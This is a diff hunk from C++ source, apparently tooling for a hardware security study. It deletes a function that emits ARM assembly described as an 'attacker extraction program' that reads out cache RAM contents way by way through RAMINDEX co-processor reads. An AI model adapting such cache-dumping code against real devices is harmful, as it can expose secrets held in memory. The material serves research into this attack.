@@ -85,50 +85,6 @@ vectorFill(uint8_t even_pattern, uint8_t odd_pattern)
     return os.str();
 }
 
-std::string
-ramIndexDump(unsigned ram_id, size_t ways, size_t sets,
-             size_t words_per_line, uint64_t dump_base)
-{
-    std::ostringstream os;
-    os << "// Attacker extraction program (Section 6.1): RAMINDEX dump\n";
-    os << "// caches stay DISABLED so this program cannot pollute them\n";
-    os << loadImm64("x10", dump_base); // output cursor
-    os << loadImm64("x1", ways);
-    os << "    movz x2, #0\n"; // way
-    os << "way_loop:\n";
-    os << loadImm64("x3", sets);
-    os << "    movz x4, #0\n"; // set
-    os << "set_loop:\n";
-    os << loadImm64("x5", words_per_line);
-    os << "    movz x6, #0\n"; // word
-    os << "word_loop:\n";
-    // descriptor = ram_id<<56 | way<<48 | set<<8 | word
-    os << "    movz x7, #" << (ram_id & 0xf) << "\n";
-    os << "    lsl x7, x7, #8\n";
-    os << "    orr x7, x7, x2\n"; // ..ram_id<<8 | way
-    os << "    lsl x7, x7, #48\n";
-    os << "    lsl x8, x4, #8\n";
-    os << "    orr x7, x7, x8\n";
-    os << "    orr x7, x7, x6\n";
-    // The TRM-mandated barrier pair, then the co-processor read.
-    os << "    dsb sy\n";
-    os << "    isb\n";
-    os << "    ramindex x9, x7\n";
-    os << "    str x9, [x10]\n";
-    os << "    add x10, x10, #8\n";
-    os << "    add x6, x6, #1\n";
-    os << "    cmp x6, x5\n";
-    os << "    b.lt word_loop\n";
-    os << "    add x4, x4, #1\n";
-    os << "    cmp x4, x3\n";
-    os << "    b.lt set_loop\n";
-    os << "    add x2, x2, #1\n";
-    os << "    cmp x2, x1\n";
-    os << "    b.lt way_loop\n";
-    os << "    hlt\n";
-    return os.str();
-}
-
 std::vector<uint8_t>
 patternStoreGroundTruth(size_t bytes, uint8_t pattern)
 {
